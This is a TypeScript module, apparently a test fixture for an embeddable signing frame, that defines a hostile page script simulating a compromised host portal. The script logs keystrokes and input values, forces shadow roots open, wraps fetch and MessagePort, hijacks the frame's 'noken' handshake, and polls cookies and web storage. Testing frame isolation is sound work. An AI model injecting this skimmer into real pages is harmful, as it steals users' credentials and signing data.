/** What a hacked portal's page took, and the means that it keeps for fakes. It hangs on the page's `window`. */
export interface Loot {
  /** Every key that any listener heard, in one line. */
  keys: string;
  /** Everything else that was seen. */
  readonly seen: Set<string>;
  /** How often it looked around. */
  looks: number;
  /** Roots of shadow trees, whether they wanted to be closed or not. */
  readonly roots: ShadowRoot[];
  /** Ports of the page's side: the kit's own, and those that raced it. */
  readonly ports: MessagePort[];
  /** Answers the frame's hello before the kit does. */
  racing: boolean;
  /** Changes addresses that the kit asks for. */
  rewrite: ((url: string) => string) | undefined;
  /** The kit's frame, wherever it hangs. */
  frame(): HTMLIFrameElement | null;
}

declare global {
  interface Window {
    loot: Loot;
  }
}

/** Runs before the kit, as the first script of a hacked page, and takes whatever a page can take. */
export const hostileScript = `(${takeEverything.toString()})();`;

function takeEverything(): void {
  const loot: Loot = {
    keys: '',
    seen: new Set(),
    looks: 0,
    roots: [],
    ports: [],
    racing: false,
    rewrite: undefined,
    frame: () => {
      for (const root of [document, ...loot.roots]) {
        const frame = root.querySelector<HTMLIFrameElement>('iframe[src*="/v1/sign-frame"]');
        if (frame) return frame;
      }
      return null;
    },
  };
  window.loot = loot;
  const see = (what: string, value: unknown) => {
    let text = String(value);
    try {
      if (typeof value === 'object') text = JSON.stringify(value) ?? text;
    } catch (error) {
      text += String(error);
    }
    loot.seen.add(`${what} ${text}`);
  };
  /** Puts ourselves before a function of the browser. */
  const wrap = <Of extends object>(
    of: Of,
    name: keyof Of & string,
    around: (self: unknown, given: unknown[], call: (given: unknown[]) => unknown) => unknown,
  ) => {
    const real = of[name] as (...given: unknown[]) => unknown;
    const ours = function (this: unknown, ...given: unknown[]) {
      return around(this, given, (changed) => Reflect.apply(real, this, changed));
    };
    Object.assign(of, { [name]: ours });
  };

  // Every event of typing, pasting and pointing, before anybody else gets it.
  const types = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy', 'cut'];
  types.push('compositionstart', 'compositionupdate', 'compositionend', 'focusin', 'selectionchange');
  types.push('pointerdown', 'click', 'submit', 'drop', 'message', 'messageerror');
  const take = (event: Event) => {
    if (event.type === 'keydown' && event.currentTarget === window) loot.keys += (event as KeyboardEvent).key;
    for (const target of event.composedPath())
      if (target instanceof HTMLInputElement) see(`${event.type} value`, target.value);
    if (event instanceof InputEvent || event instanceof MessageEvent) see(event.type, event.data);
  };
  for (const target of [window, document])
    for (const type of types) target.addEventListener(type, take, true);

  // No root stays closed, and every value is read on its way.
  wrap(Element.prototype, 'attachShadow', (_, [init], call) => {
    const root = call([{ ...(init as ShadowRootInit), mode: 'open' }]) as ShadowRoot;
    loot.roots.push(root);
    return root;
  });
  const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    ...value,
    get(this: HTMLInputElement) {
      const now: unknown = value?.get?.call(this);
      see('value', now);
      return now;
    },
  });

  // Our end of every channel that the kit makes, and whatever goes through a port or a request.
  const Channel = MessageChannel;
  window.MessageChannel = class extends Channel {
    constructor() {
      super();
      loot.ports.push(this.port1);
      this.port1.addEventListener('message', ({ data }) => see('port', data));
    }
  };
  wrap(MessagePort.prototype, 'postMessage', (_, given, call) => {
    see('posted', given[0]);
    return call(given);
  });
  wrap(window, 'fetch', async (_, [input, init], call) => {
    const url = input instanceof Request ? input.url : String(input);
    see('asked', url);
    see('sent', (init as RequestInit | undefined)?.body);
    const answer = (await call([loot.rewrite?.(url) ?? input, init])) as Response;
    const text = answer.clone().text();
    text.then((body) => see('answered', body)).catch(() => undefined);
    return answer;
  });

  // The first listener of the page is ours, so that it can hand the frame a port of its own before the kit does.
  addEventListener('message', ({ data, source }: MessageEvent<{ t?: string } | null>) => {
    if (!loot.racing || data?.t !== 'noken:hello') return;
    const { port1, port2 } = new Channel();
    port1.onmessage = (event) => see('raced', event.data);
    loot.ports.push(port1);
    (source as Window).postMessage({ t: 'noken:init' }, '*', [port2]);
  });

  // Ten times a second: the frame from outside, every root, every store.
  setInterval(() => {
    const frame = loot.frame();
    const looks: (() => unknown)[] = [
      () => frame?.contentDocument?.documentElement.outerHTML,
      () => frame?.contentWindow?.document.body.innerHTML,
      () => frame?.contentWindow?.location.href,
      () => frame?.contentWindow?.getSelection()?.toString(),
      () => frame?.contentWindow?.length,
      () => document.cookie,
      () => ({ ...localStorage, ...sessionStorage }),
      () => document.getSelection()?.toString(),
      ...loot.roots.map((root) => () => root.innerHTML),
    ];
    loot.looks++;
    for (const look of looks) {
      try {
        see('looked', look());
      } catch (error) {
        see('refused', (error as Error).name);
      }
    }
  }, 100);
}
